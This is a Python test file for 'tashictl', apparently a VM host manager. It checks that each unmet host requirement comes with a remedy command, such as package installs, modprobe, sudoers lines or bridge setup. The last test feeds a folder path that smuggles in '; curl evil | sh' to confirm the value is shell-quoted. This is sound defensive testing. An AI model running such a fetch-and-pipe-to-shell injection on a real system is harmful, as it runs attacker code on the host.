"""Requirements: each that is not met is named with what to do, and no other."""

from datetime import UTC, datetime
from pathlib import Path

import pytest
from msgspec.structs import replace

from tashictl.model.host import HostConfig
from tashictl.model.network import Network
from tashictl.model.script import Fault
from tashictl.model.settings import Settings, TashictlSettings
from tashictl.planning import facts, requirements
from tashictl.planning.facts import Reading
from tashictl.planning.ground import Folder
from tashictl.planning.requirements import Finding

GOLDEN = Path(__file__).parent / "golden" / "facts"
NONCE = "00112233aabbccdd"
LAN = Network(id=1, name="lan", bridge="vmbr", default=True)
USER = Network(id=2, name="nat", mode="user")
SETTINGS = Settings(tashictl=TashictlSettings(cluster_id="0123456789ab"))


def reading(name: str = "root") -> Reading:
    out = (GOLDEN / f"{name}.txt").read_bytes()
    time = int(out.split(b"B clock\ntime ")[1].split()[0])
    found = facts.read(out, NONCE, datetime.fromtimestamp(time, UTC))
    assert found is not None
    # Captured on a host of another cluster.
    return replace(found, facts=replace(found.facts, claimed_by=None))


def check(
    seen: Reading, *networks: Network, settings: Settings = SETTINGS, **config: object
) -> dict[str, Finding]:
    host = HostConfig(**{"name": "node1", "address": "10.0.0.1", **config})  # type: ignore[arg-type]
    found = requirements.findings(seen, requirements.place(host, settings, networks or (LAN,)))
    assert len({f.check for f in found}) == len(found)
    return {f.check: f for f in found}


def unmet(found: dict[str, Finding]) -> list[str]:
    assert all(f.remedy for f in found.values() if not f.ok)
    return [f.check for f in found.values() if not f.ok]


def with_facts(**values: object) -> Reading:
    whole = reading()
    return replace(whole, facts=replace(whole.facts, **values))


def with_ground(**values: object) -> Reading:
    whole = reading()
    assert whole.ground is not None
    return replace(whole, ground=replace(whole.ground, **values))


@pytest.mark.parametrize("name", ["root", "sudo"])
def test_a_host_of_the_lab_meets_all(name: str) -> None:
    found = check(reading(name))

    assert unmet(found) == []
    assert list(found) == [
        *("login", "sockets", "qemu", "accel", "tools", "tap"),
        *("folder lib", "folder run", "folder images", "bridge vmbr", "memory", "clock", "cluster"),
    ]
    assert found["accel"].state == "advice"


def test_without_root_a_bridge_network_asks_for_become_with_the_sudoers_line() -> None:
    found = check(reading("no-root"), user="noroot")

    assert unmet(found) == ["login", "tap", "folder lib", "folder run", "folder images"]
    assert "become: true" in found["login"].remedy
    assert "noroot ALL=(root) NOPASSWD: ALL" in found["login"].remedy
    assert "/etc/sudoers.d/tashi" in found["login"].remedy


def test_without_a_bridge_network_neither_root_nor_tun_nor_ip_nor_a_bridge_is_needed() -> None:
    seen = reading("no-root")
    assert seen.ground is not None
    own = {
        name: Folder(at="/home/x", writable=True, free_mib=9999, kind="ext2/ext3")
        for name in ("lib", "run", "images")
    }
    seen = replace(
        seen,
        ground=replace(seen.ground, folders=own, tun="absent"),
        facts=replace(seen.facts, missing=("ip",), bridges=()),
    )

    found = check(seen, USER, user="noroot", transport="local")

    assert unmet(found) == []
    assert not {"tap", "bridge vmbr", "sockets"} & set(found)


def test_a_clock_that_is_right_is_not_behind_by_nothing() -> None:
    assert check(with_facts(clock_offset_s=-0.2))["clock"].seen == "+0 s"


@pytest.mark.parametrize(
    ("seen", "name", "remedy"),
    [
        (with_facts(qemu_version=None, qemu_bin=None), "qemu", "apt-get install qemu-system-x86"),
        (with_facts(qemu_version="6.2.0"), "qemu", "7.2 or later"),
        (with_facts(missing=("qemu-img",)), "tools", "apt-get install qemu-utils"),
        (with_facts(missing=("ip", "flock")), "tools", "apt-get install iproute2 util-linux"),
        (with_facts(missing=("sha256sum", "sync")), "tools", "apt-get install coreutils"),
        (with_facts(bridges=("other",)), "bridge vmbr", "ip link add name vmbr type bridge"),
        (with_facts(clock_offset_s=-45.0), "clock", "apt-get install systemd-timesyncd"),
        (with_facts(claimed_by="ffffffffffff"), "cluster", "tashictl host remove"),
        (with_facts(memory_mib=600), "memory", "reserved_memory"),
        (with_ground(tun="absent"), "tap", "modprobe tun"),
        (with_ground(tun="closed"), "tap", "modprobe tun"),
        (with_ground(net_admin=False), "tap", "login"),
        (with_ground(forwarding="no"), "sockets", "AllowStreamLocalForwarding yes"),
    ],
)
def test_each_that_is_not_met_has_its_remedy(seen: Reading, name: str, remedy: str) -> None:
    found = check(seen)

    assert unmet(found) == [name]
    assert remedy in found[name].remedy


def test_where_sshd_forwards_no_sockets_socat_does_and_that_is_said() -> None:
    found = check(with_ground(forwarding="no", relay="socat"))["sockets"]

    assert (found.ok, found.state) == (True, "advice")
    assert "socat does" in found.seen


def test_a_full_disk_is_not_met_and_a_small_one_is_said() -> None:
    def folders(free_mib: int) -> dict[str, Folder]:
        return {
            n: Folder(at="/var", writable=True, free_mib=free_mib, kind="ext2/ext3")
            for n in ("lib", "run", "images")
        }

    full = check(with_ground(folders=folders(3)))
    small = check(with_ground(folders=folders(900)))

    assert unmet(full) == ["folder lib", "folder images"]
    assert "3 MiB free" in full["folder lib"].seen
    assert [f.check for f in small.values() if f.state == "advice"] == [
        "accel",
        "folder lib",
        "folder images",
    ]


@pytest.mark.parametrize(
    ("kind", "shared", "advice"),
    [
        ("nfs", False, "shared = True"),
        ("nfs", True, ""),
        ("ext2/ext3", True, "mount it here"),
        ("ext2/ext3", False, ""),
    ],
)
def test_whether_the_image_folder_is_shared_is_told(kind: str, shared: bool, advice: str) -> None:
    images = Folder(at="/srv", writable=True, free_mib=9999, kind=kind)
    found = check(
        with_ground(folders={"images": images}), settings=replace(SETTINGS, vfs_shared=shared)
    )["folder images"]

    assert found.ok
    assert ("shared by all hosts" if shared else "this host's own") in found.seen
    assert advice in found.remedy
    assert bool(advice) == bool(found.remedy)


@pytest.mark.parametrize(
    ("kvm", "flag", "seen", "remedy"),
    [
        ("usable", "vmx", "kvm", ""),
        ("absent", "vmx", "no /dev/kvm", "modprobe kvm_intel"),
        ("absent", "svm", "no /dev/kvm", "modprobe kvm_amd"),
        ("absent", "", "no /dev/kvm", "VT-x or AMD-V"),
        ("forbidden", "vmx", "root may not open /dev/kvm", "usermod -aG kvm root"),
        ("hangs", "vmx", "hangs", "stay with tcg"),
        ("refused", "vmx", "x86-64-v2", "cpuModel"),
    ],
)
def test_what_kvm_is_found_to_be_is_explained(kvm: str, flag: str, seen: str, remedy: str) -> None:
    whole = with_ground(cpu_flag=flag)
    whole = replace(
        whole, kvm=kvm, facts=replace(whole.facts, accel="kvm" if kvm == "usable" else "tcg")
    )

    found = check(whole)["accel"]

    assert seen in found.seen
    assert remedy in found.remedy
    assert found.ok
    assert found.state == ("ok" if kvm == "usable" else "advice")
    assert check(whole, accel="kvm")["accel"].ok is (kvm == "usable")
    assert check(whole, accel="tcg")["accel"].state == "ok"


def test_systemd_must_not_kill_what_a_login_without_root_leaves_behind() -> None:
    seen = reading("no-root")
    assert seen.ground is not None
    spares = replace(seen.ground, systemd=True)
    lingers = replace(spares, lingers=True)
    kills = replace(lingers, kills_at_logout=True)

    found = [check(replace(seen, ground=g), USER)["logout"] for g in (spares, lingers, kills)]

    assert [f.ok for f in found] == [True, True, False]
    assert "loginctl enable-linger noroot" in found[0].remedy
    assert found[1].remedy == ""
    assert "KillExcludeUsers=noroot" in found[2].remedy
    assert "logout" not in check(with_ground(systemd=True, kills_at_logout=True))


def test_only_the_bridges_of_the_hosts_own_networks_count() -> None:
    dmz = Network(id=3, name="dmz", bridge="vmbr3")

    assert unmet(check(reading(), LAN, dmz)) == ["bridge vmbr3"]
    assert unmet(check(reading(), LAN, dmz, networks=("lan",))) == []


def test_a_bridge_on_an_uplink_is_made_with_it() -> None:
    remedy = check(with_facts(bridges=()), uplink="eth0")["bridge vmbr"].remedy

    assert "ip link set dev eth0 master vmbr" in remedy
    assert "bridge_ports eth0" in remedy


def test_a_vlan_aware_bridge_gets_no_vlan_interface_that_would_hide_its_frames() -> None:
    dmz = Network(id=3, name="dmz", bridge="vmbr3", vlan=3, vlan_aware=True)

    remedy = check(with_facts(bridges=("vmbr",)), dmz, uplink="eth0")["bridge vmbr3"].remedy

    assert remedy == "tashictl net apply node1"


@pytest.mark.parametrize(
    ("fault", "remedy"),
    [
        (Fault.AUTH, "ssh-copy-id dev@10.0.0.1"),
        (Fault.SUDO, "dev ALL=(root) NOPASSWD: ALL"),
        (Fault.REFUSED, "openssh-server"),
        (Fault.RESOLVE, "node1: {address: …}"),
        (Fault.HOSTKEY_UNKNOWN, "as the error says"),
        (None, "as the error says"),
    ],
)
def test_a_host_that_is_not_reached_has_a_remedy_too(fault: Fault | None, remedy: str) -> None:
    config = HostConfig(name="node1", address="10.0.0.1", user="dev")

    found = requirements.unreached(config, fault, "why", "as the error says")

    assert (found.check, found.ok, found.seen) == ("reach", False, "why")
    assert remedy in found.remedy


def test_the_same_finding_of_several_hosts_is_told_once() -> None:
    one, other = (Finding(check=c, ok=False, seen="x", remedy="y") for c in ("a", "b"))

    assert requirements.together([("h1", one), ("h1", other), ("h2", one)]) == [
        (["h1", "h2"], one),
        (["h1"], other),
    ]


def test_a_folder_that_a_host_names_is_quoted_in_what_is_typed() -> None:
    at = "/srv; curl evil | sh"
    full = Folder(at=at, writable=True, free_mib=0, kind="ext4")
    closed = Folder(at=at, writable=False, free_mib=0, kind="ext4")

    found = check(with_ground(folders={"lib": full, "run": closed, "images": full}))

    for name in ("lib", "run", "images"):
        assert f" '{at}'" in found[f"folder {name}"].remedy
